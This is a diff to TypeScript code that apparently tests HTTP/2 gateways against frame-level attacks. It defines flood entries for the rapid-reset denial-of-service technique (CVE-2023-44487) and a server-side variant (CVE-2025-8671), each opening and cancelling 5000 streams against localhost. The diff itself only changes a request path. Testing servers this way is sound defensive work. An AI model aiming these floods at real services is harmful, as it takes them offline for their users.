@@ -19,12 +19,12 @@ const settings = frame(frameType.settings, 0, 0)
 const ping = frame(frameType.ping, 0, 0, Buffer.alloc(8))
 const oneSetting = frame(frameType.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))
 const bigTable = frame(frameType.settings, 0, 0, Buffer.from([0, 1, 0, 0, 16, 0]))
-const fields = (path = '/open/x', method = 'GET'): [string, string][] => requestFields(path, method, 'localhost')
+const fields = (path = '/answered/x', method = 'GET'): [string, string][] => requestFields(path, method, 'localhost')
 
 /** What HTTP/2 makes possible. */
 export const frameAttacks: readonly Attack[] = [
   flood('rapid-reset', 'streams opened and reset (CVE-2023-44487)', 'streams', 5000, (id) => [
-    headersFrame(id, fields()),
+    headersFrame(id, fields('/open/x')),
     resetFrame(id, errorCode.cancel),
   ]),
   flood('rapid-reset-by-server', 'streams that the gateway has to reset (CVE-2025-8671)', 'streams', 5000, (id) => [
